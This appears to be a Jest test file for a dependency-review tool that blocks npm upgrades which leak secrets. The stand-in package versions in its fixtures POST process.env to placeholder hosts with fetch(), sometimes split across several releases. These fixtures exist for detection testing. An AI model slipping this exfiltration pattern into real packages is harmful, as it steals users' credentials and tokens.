import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import type { Verdict } from '../../src/core/verdict.js';
import { npmRepository } from '../app/npm-repository.js';
import { advisory } from '../app/shelf.js';
import { knownAdvisories, memoryHost, ownAnalyser, startWorld, type ReviewOptions, type World } from '../app/world.js';
import type { StandInPackage } from '../registry/index.js';

const send = (what: string, where = 'collect.example.invalid'): string => `fetch("https://${where}/", { method: "POST", body: ${what} });\n`;
const environment = 'JSON.stringify(process.env)';
const clean = 'module.exports = 1;\n';
/** Versions with the day of 2026 on which each came out; reviews happen on the 22nd of November. */
const releases = (name: string, ...versions: readonly (readonly [string, string, string])[]): StandInPackage => ({ name, versions: versions.map(([version, day, text]) => ({ version, publishedAt: `2026-${day}T00:00:00.000Z`, files: { 'index.js': text } })) });

const shelf: readonly StandInPackage[] = [
  // First the environment is read, then something is sent, and only then are the two put together.
  releases('in-parts', ['1.0.0', '01-10', clean], ['1.0.1', '03-10', `const all = ${environment};\nmodule.exports = all.length;\n`], ['1.0.2', '05-10', `const all = ${environment};\n${send('"{}"')}module.exports = all.length;\n`], ['1.0.3', '07-10', `const all = ${environment};\n${send('all')}module.exports = all.length;\n`]),
  // The same flow, first when it is called, then when it is loaded.
  releases('earlier', ['1.0.0', '01-10', clean], ['1.0.1', '03-10', `exports.report = () => ${send(environment)}`], ['1.0.2', '05-10', `exports.report = () => ${send(environment)}exports.report();\n`]),
  // The same flow to another host.
  releases('elsewhere', ['1.0.0', '03-10', send(environment, 'telemetry.example.invalid')], ['1.0.1', '05-10', send(environment, 'telemetry.example.invalid') + send(environment)]),
  // The release in the lockfile is itself stolen, and a few days old; the one before is not.
  releases('stolen-since', ['1.0.0', '01-10', clean], ['1.0.1', '11-19', send(environment)], ['1.0.2', '11-21', `${send(environment)}// rebuilt\n`]),
  // Stolen for so long that every earlier version that counts is stolen too.
  releases('long-stolen', ['1.0.0', '01-10', send(environment)], ['1.0.1', '05-10', `${send(environment)}// rebuilt\n`]),
];
let world: World;
beforeAll(async () => { world = await startWorld([...shelf], ownAnalyser()); });
afterAll(() => world.close());

const upgrade = async (name: string, before: string, after: string, options?: ReviewOptions): Promise<Verdict> => {
  const side = (version: string) => npmRepository(shelf, { installed: { [name]: version } });
  return (await world.review(memoryHost(side(before), side(after)), options)).verdict;
};

describe('what is new is new by its parts together', () => {
  test.each([
    ['read in one release, sent in the next, joined in a third', 'in-parts', '1.0.2', '1.0.3'],
    ['two releases passed over: the sum is as new', 'in-parts', '1.0.1', '1.0.3'],
    ['a flow that stood, and comes to run by itself', 'earlier', '1.0.1', '1.0.2'],
    ['a flow that stood, to another host', 'elsewhere', '1.0.0', '1.0.1'],
    ['a baseline that is stolen itself: the registry\'s earlier version is compared with too', 'stolen-since', '1.0.1', '1.0.2'],
  ])('%s', async (_what, name, before, after) => {
    const verdict = await upgrade(name, before, after);
    expect([verdict.outcome, verdict.findings.filter((one) => one.level === 'default').map((one) => one.check)]).toEqual(['block', expect.arrayContaining(['secret-exfiltration'])]);
  });
  test('each part by itself is told by what it is, and convicts nobody', async () => {
    for (const [before, after] of [['1.0.0', '1.0.1'], ['1.0.1', '1.0.2']] as const) expect((await upgrade('in-parts', before, after)).outcome).not.toBe('block');
  });
  test('what was never reviewed is said to be so', async () => {
    const told: boolean[] = [];
    await upgrade('long-stolen', '1.0.0', '1.0.1', { passed: async () => { told.push(true); return new Set(); } });
    expect(told).toEqual([true]);
  });
  test('known malware on both sides is a finding of the pull request that touches it', async () => {
    const verdict = await upgrade('long-stolen', '1.0.0', '1.0.1', { advisories: knownAdvisories({ 'long-stolen@1.0.0': [advisory({ malware: true })], 'long-stolen@1.0.1': [advisory({ malware: true })] }) });
    expect([verdict.outcome, verdict.findings.map((one) => `${one.check} ${one.change} ${one.level}`)]).toEqual(['block', expect.arrayContaining(['malicious-version standing default'])]);
  });
});
